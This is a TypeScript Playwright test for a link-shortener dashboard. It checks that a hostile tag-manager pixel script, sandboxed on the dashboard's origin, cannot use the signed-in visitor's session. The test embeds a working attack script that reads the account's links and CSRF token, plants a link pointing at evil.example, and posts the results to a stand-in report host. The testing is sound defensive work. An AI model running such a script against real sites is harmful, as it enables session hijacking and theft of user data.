import { setTimeout as sleep } from 'node:timers/promises';
import type { BrowserContext, Page } from 'playwright-core';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { setPassword } from '../../src/features/account/service.js';
import { chromiumPresent, launchChromium } from '../helpers/browser.js';
import { startServer, type TestServer } from '../helpers/server.js';
import { PASSWORD } from '../helpers/session.js';
import { startTlsProxy, type TlsProxy } from '../helpers/tls-proxy.js';

/**
 * What a hostile tag script would do with a signed-in visitor: read the account's links, learn the CSRF token,
 * then create a link, by CORS fetch and by a no-cors form-like POST. It answers what it got.
 */
const ATTACK = `async (plant) => {
  const out = {};
  const read = async (name, run) => { try { const r = await run(); out[name] = r.type === 'opaque' ? 'opaque' : r.status + ' ' + (await r.text()); } catch (e) { out[name] = 'failed: ' + e; } };
  await read('list', () => fetch('/api/urls', { credentials: 'include' }));
  await read('session', () => fetch('/api/session', { credentials: 'include' }));
  const csrf = (/"csrf":"([^"]+)"/.exec(out.session) || [])[1] || '';
  await read('add', () => fetch('/api/url/add', { method: 'POST', credentials: 'include',
    headers: { 'content-type': 'application/json', 'x-csrf-token': csrf }, body: JSON.stringify({ url: plant }) }));
  await read('blind', () => fetch('/api/url/add', { method: 'POST', mode: 'no-cors', credentials: 'include',
    headers: { 'content-type': 'text/plain' }, body: JSON.stringify({ url: plant + '-blind' }) }));
  return out;
}`;

const REPORT = 'https://report.test/attack';
const DESTINATION = 'https://destination.test/landing';

describe.skipIf(!chromiumPresent())("a pixel page on the dashboard's origin cannot use the visitor's session", () => {
  let proxy: TlsProxy;
  let server: TestServer;
  let browser: Browser;
  let context: BrowserContext;
  let apiKey: string;
  let email: string;

  beforeAll(async () => {
    proxy = await startTlsProxy();
    // No DASHBOARD_URL: the dashboard and the short links share https://127.0.0.1:{port}.
    [server, browser] = await Promise.all([startServer({ BASE_URL: proxy.url, RATE_LIMIT_MAX: '100000' }), launchChromium()]);
    proxy.forwardTo(server.url);
    ({ apiKey, email } = await server.user());
    await setPassword(server.ctx, email, PASSWORD);
    context = await browser.newContext({ ignoreHTTPSErrors: true });
  });
  afterAll(async () => {
    await browser?.close();
    await server?.close();
    await proxy?.close();
  });

  const links = async () =>
    (await server.call('GET', '/api/urls?limit=100', { key: apiKey })).body.data.urls.map((u: { longurl: string }) => u.longurl);

  /** Signs in from a page of the origin, as the dashboard does, and answers that page. */
  async function signedInPage(): Promise<Page> {
    const page = await context.newPage();
    page.setDefaultTimeout(10_000);
    await page.goto(`${proxy.url}/health`);
    const status = await page.evaluate(
      async ([e, p]) =>
        (
          await fetch('/api/session', {
            method: 'POST',
            headers: { 'content-type': 'application/json' },
            body: JSON.stringify({ email: e, password: p }),
          })
        ).status,
      [email, PASSWORD],
    );
    expect(status).toBe(200);
    const cookie = (await context.cookies(proxy.url)).find((c) => c.name === '__Host-redirectory_session');
    expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'Strict', secure: true });
    return page;
  }

  it('a tag script reads nothing and creates nothing, and the page still forwards', async () => {
    const page = await signedInPage();
    const pixel = await server.call('POST', '/api/pixel/add', { key: apiKey, body: { type: 'tagmanagerpixel', name: 'GTM', tag: 'GTM-HOSTILE' } });
    const link = await server.call('POST', '/api/url/add', { key: apiKey, body: { url: DESTINATION, pixels: [pixel.body.id] } });
    expect(link.body.shorturl.startsWith(proxy.url)).toBe(true);

    let served = false;
    let report: Record<string, string> | undefined;
    await context.route('https://www.googletagmanager.com/**', (route) => {
      served = true;
      return route.fulfill({
        contentType: 'application/javascript',
        body: `(${ATTACK})('https://evil.example/planted').then((o) => fetch(${JSON.stringify(REPORT)}, { method: 'POST', body: JSON.stringify(o) }));`,
      });
    });
    let reported: () => void = () => {};
    const reportArrived = new Promise<void>((resolve) => (reported = resolve));
    await context.route(REPORT, (route) => {
      report = JSON.parse(route.request().postData() ?? '{}');
      reported();
      return route.fulfill({ status: 204 });
    });
    // The page forwards after 800 ms; on a busy machine the tag's requests may outlast that. The destination
    // answers once the report is in (or after 10 s), so the forward cannot unload the page under the tag.
    await context.route('https://destination.test/**', async (route) => {
      await Promise.race([reportArrived, sleep(10_000)]);
      return route.fulfill({ contentType: 'text/html', body: '<title>Destination</title><h1 id="where">Landed</h1>' });
    });

    await page.goto(link.body.shorturl);
    await expect.poll(() => report, { timeout: 10_000 }).toBeDefined();
    expect(served).toBe(true);
    for (const name of ['list', 'session', 'add']) expect(report![name], `${name}: ${report![name]}`).toMatch(/^failed: /); // opaque origin: no CORS answer to read
    expect(report!.blind).toBe('opaque');
    await page.waitForURL(DESTINATION);
    expect(await page.textContent('#where')).toBe('Landed');
    expect((await links()).filter((url: string) => url.includes('evil.example'))).toEqual([]);

    // The session was alive all along: the same script run by a page of the origin that is not sandboxed does both.
    const control = await signedInPage();
    const done: Record<string, string> = await control.evaluate(`(${ATTACK})('https://evil.example/control')`);
    expect(done.list).toMatch(/^200 /);
    expect(done.add).toMatch(/^200 /);
    expect(await links()).toContain('https://evil.example/control');
  }, 60_000);

  it('a frame link with a pixel still shows its destination and the way out of the frame', async () => {
    const page = await signedInPage();
    const pixel = await server.call('POST', '/api/pixel/add', { key: apiKey, body: { type: 'analyticspixel', name: 'GA', tag: 'G-FRAMED' } });
    const link = await server.call('POST', '/api/url/add', { key: apiKey, body: { url: DESTINATION, type: 'frame', pixels: [pixel.body.id] } });
    let fired = false;
    await context.route('https://www.googletagmanager.com/**', (route) => {
      fired = true;
      return route.fulfill({ contentType: 'application/javascript', body: '' });
    });
    await page.goto(link.body.shorturl);
    await expect.poll(() => page.frameLocator('iframe.full').locator('#where').textContent()).toBe('Landed');
    expect(fired).toBe(true);
    await page.getByRole('link', { name: 'Open the page' }).click();
    await page.waitForURL(DESTINATION);
  });
});
